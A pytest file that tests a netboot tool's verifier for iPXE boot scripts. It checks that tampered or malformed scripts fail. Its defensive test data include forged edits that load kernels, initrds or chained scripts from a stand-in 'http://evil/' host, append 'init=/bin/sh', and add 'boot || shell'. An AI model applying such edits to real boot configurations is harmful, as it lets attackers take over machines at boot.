"""verify.ipxe: the set's script must be exactly the one the build writes, for this set's
label and files, with the kernel command line manifest.json records; any other shape is a
failed check naming the first line that differs."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from artifact_sets import KERNEL_PARAMS, check_of, failures, make_ipxe, rehash, run_verify
from plasmaboot.artifacts.layout import IPXE

IPXE_CHECKS = ("ipxe.header", "ipxe.script", "ipxe.files", "ipxe.kernel-line")


def results(directory: Path) -> dict[str, tuple[str, str]]:
    _, report, _ = run_verify(directory)
    return {name: (check_of(report, name)["result"], check_of(report, name)["detail"])
            for name in IPXE_CHECKS}  # fmt: skip


def test_a_good_script_passes_with_its_kernel_line(make_set: Callable[..., Path]) -> None:
    assert results(make_set()) == {
        "ipxe.header": ("pass", "#!ipxe"),
        "ipxe.script": ("pass", "kernel, initrd, boot"),
        "ipxe.files": ("pass", "bzImage, initrd"),
        "ipxe.kernel-line": ("pass", "initrd=initrd console=ttyS0 quiet"),
    }


def test_a_script_for_another_label_fails(make_set: Callable[..., Path]) -> None:
    directory = make_set()
    make_ipxe(directory, label="other")
    rehash(directory)
    assert failures(directory) == {"ipxe.files"}
    assert results(directory)["ipxe.files"] == ("fail", "label 'other' is not 'worker'")


def test_a_script_whose_files_are_not_beside_it_fails(make_set: Callable[..., Path]) -> None:
    directory = make_set()
    (directory / "initrd").rename(directory / "initrd.moved")
    rehash(directory)
    assert "ipxe.files" in failures(directory)
    assert results(directory)["ipxe.files"] == ("fail", "initrd is not beside it")


def test_kernel_parameters_other_than_the_manifest_records_fail(
    make_set: Callable[..., Path],
) -> None:
    directory = make_set()
    make_ipxe(directory, params=[*KERNEL_PARAMS, "init=/bin/sh"])
    rehash(directory)
    assert failures(directory) == {"ipxe.kernel-line"}
    assert results(directory)["ipxe.kernel-line"] == (
        "fail",
        "the script passes 'initrd=initrd console=ttyS0 quiet init=/bin/sh', "
        "manifest.json records 'console=ttyS0 quiet'",
    )


def edit_script(directory: Path, edit: Callable[[str], str]) -> None:
    (directory / IPXE).write_text(edit((directory / IPXE).read_text()))
    rehash(directory)


@pytest.mark.parametrize(
    ("edit", "detail"),
    [
        (
            lambda s: s.replace("boot\n", "initrd ${boot-server}/worker/extra.img\nboot\n"),
            "line 5: 'initrd ${boot-server}/worker/extra.img', expected `boot`",
        ),
        (
            lambda s: s + "chain http://elsewhere/next.ipxe\n",
            "line 6: 'chain http://elsewhere/next.ipxe' after `boot`, expected the end of the "
            "script",
        ),
        (
            lambda s: s.replace("initrd=initrd ", ""),
            "line 3: 'kernel ${boot-server}/worker/bzImage console=ttyS0 quiet', expected "
            "`kernel ${boot-server}/worker/bzImage initrd=initrd <params>`",
        ),
        (
            lambda s: s.replace("quiet", "quiet || chain http://elsewhere/x"),
            "line 3: kernel parameter '||': '|' is not allowed in a kernel parameter of letters, "
            "digits and . _ , : = / @ + % ~ - (no spaces, quotes, $, ;, |, & or newlines)",
        ),
    ],
)
def test_a_script_of_another_shape_names_its_first_unexpected_line(
    make_set: Callable[..., Path], edit: Callable[[str], str], detail: str
) -> None:
    directory = make_set()
    edit_script(directory, edit)
    assert failures(directory) == {"ipxe.script"}
    found = results(directory)
    assert found["ipxe.script"] == ("fail", f"not the script plasmaboot writes: {detail}")
    assert found["ipxe.files"][0] == "skip"


@pytest.mark.parametrize(
    ("text", "first_line"),
    [
        ("kernel http://elsewhere/bzImage\n", "kernel http://elsewhere/bzImage"),
        ("\n#!ipxe\nboot\n", ""),
        ("#!ipxe\r\nboot\r\n", "#!ipxe\r"),
        (" #!ipxe\nboot\n", " #!ipxe"),
    ],
)
def test_a_script_without_the_header_at_byte_0_fails_the_header(
    make_set: Callable[..., Path], text: str, first_line: str
) -> None:
    directory = make_set()
    (directory / IPXE).write_bytes(text.encode())
    rehash(directory)
    assert failures(directory) == {"ipxe.header"}
    found = results(directory)
    assert found["ipxe.header"] == ("fail", f"first line is {first_line!r}, not '#!ipxe'")
    assert {found[name][0] for name in IPXE_CHECKS[1:]} == {"skip"}


def test_a_nul_in_the_script_fails(make_set: Callable[..., Path]) -> None:
    directory = make_set()
    (directory / IPXE).write_bytes((directory / IPXE).read_bytes().replace(b"quiet", b"qu\0iet"))
    rehash(directory)
    assert failures(directory) == {"ipxe.script"}
    assert "line 3: " in results(directory)["ipxe.script"][1]
    assert "unprintable character" in results(directory)["ipxe.script"][1]


def test_a_header_alone_is_not_the_script(make_set: Callable[..., Path]) -> None:
    directory = make_set()
    (directory / IPXE).write_text("#!ipxe")
    rehash(directory)
    assert failures(directory) == {"ipxe.script"}
    assert results(directory)["ipxe.script"] == (
        "fail",
        "not the script plasmaboot writes: line 2: missing, expected `# plasmaboot: <label>`",
    )


def test_a_missing_script_fails(make_set: Callable[..., Path]) -> None:
    directory = make_set()
    (directory / IPXE).unlink()
    assert failures(directory) == {"file:netboot.ipxe", "ipxe.header"}
    assert results(directory)["ipxe.header"] == ("fail", "netboot.ipxe is missing")


KERNEL_LINE = "kernel ${boot-server}/worker/bzImage initrd=initrd"
INITRD_LINE = "initrd --name initrd ${boot-server}/worker/initrd"
FORGERIES = {
    "kernel-elsewhere": lambda s: s.replace("${boot-server}/worker/bzImage", "http://evil/bzImage"),
    "initrd-elsewhere": lambda s: s.replace(INITRD_LINE, "initrd --name initrd http://evil/initrd"),
    "extra-chain": lambda s: s.replace("boot\n", "chain http://evil/x.ipxe\nboot\n"),
    "chain-instead": lambda s: s.replace("boot\n", "chain http://evil/x.ipxe\n"),
    "second-kernel": lambda s: s.replace(INITRD_LINE, f"{INITRD_LINE}\nkernel http://evil/bzImage"),
    "extra-initrd": lambda s: s.replace(INITRD_LINE, f"{INITRD_LINE}\ninitrd http://evil/overlay"),
    "goto": lambda s: s.replace("boot\n", "goto evil\nboot\n"),
    "shell": lambda s: s.replace("boot\n", "boot || shell\n"),
    "param-chain": lambda s: s.replace(KERNEL_LINE, f"{KERNEL_LINE} && chain http://evil/"),
    "param-variable": lambda s: s.replace(KERNEL_LINE, KERNEL_LINE + " x=${net0/mac}"),
    "crlf": lambda s: s.replace("\n", "\r\n"),
    "bom": lambda s: "\ufeff" + s,
    "leading-space": lambda s: " " + s,
    "leading-newline": lambda s: "\n" + s,
    "trailing-junk": lambda s: s + "echo hi\n",
    "trailing-blank": lambda s: s + "\n",
    "no-final-newline": lambda s: s.rstrip("\n"),
    "tab-separated": lambda s: s.replace("kernel ", "kernel\t"),
    "double-space": lambda s: s.replace(" initrd=initrd", "  initrd=initrd"),
    "comment-label": lambda s: s.replace("# plasmaboot: worker", "# plasmaboot: worker\n#!ipxe"),
    "imgfetch": lambda s: s.replace("boot\n", "imgfetch http://evil/x\nboot\n"),
}  # fmt: skip


@pytest.mark.parametrize("forgery", FORGERIES)
def test_a_forged_script_with_a_manifest_rewritten_to_match_fails(
    make_set: Callable[..., Path], forgery: str
) -> None:
    directory = make_set()
    text = (directory / IPXE).read_text()
    assert KERNEL_LINE in text and INITRD_LINE in text
    forged = FORGERIES[forgery](text)
    assert forged != text
    (directory / IPXE).write_bytes(forged.encode())
    rehash(directory)  # the manifest's hashes agree: only the script's shape can tell
    assert failures(directory) & {"ipxe.header", "ipxe.script"}, forged


@pytest.mark.parametrize("kind", ["fifo", "huge", "directory"])
def test_a_script_that_is_no_small_file_fails_at_once(
    make_set: Callable[..., Path], kind: str
) -> None:
    directory = make_set()
    script = directory / IPXE
    script.unlink()
    if kind == "fifo":
        os.mkfifo(script)  # reading it would wait for a writer for ever
    elif kind == "huge":
        with script.open("wb") as out:
            out.write(b"#!ipxe\n")
            out.truncate(4 << 30)
    else:
        script.mkdir()
    code, report, _ = run_verify(directory)
    header = next(c for c in report["checks"] if c["name"] == "ipxe.header")
    assert code == 1 and header["result"] == "fail", header
